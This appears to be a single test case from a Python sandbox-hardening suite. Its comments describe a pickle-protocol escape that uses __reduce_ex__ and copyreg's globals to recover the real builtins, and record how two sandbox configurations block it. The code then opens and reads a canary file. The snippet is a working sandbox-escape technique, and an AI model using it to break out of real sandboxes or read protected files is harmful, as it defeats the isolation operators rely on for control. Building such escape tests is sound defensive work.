# Technique   the pickle protocol hands out a function written in Python
# Mechanism   __reduce_ex__ gives copyreg's constructor, whose globals are copyreg's
# As shipped  rejected: underscore
# Unguarded   blocked: openat

maker = {1: 2}.__reduce_ex__(4)[0]
real = maker.__globals__["__builtins__"]
return (real["open"] if type(real) is dict else real.open)(CANARY_FILE).read()
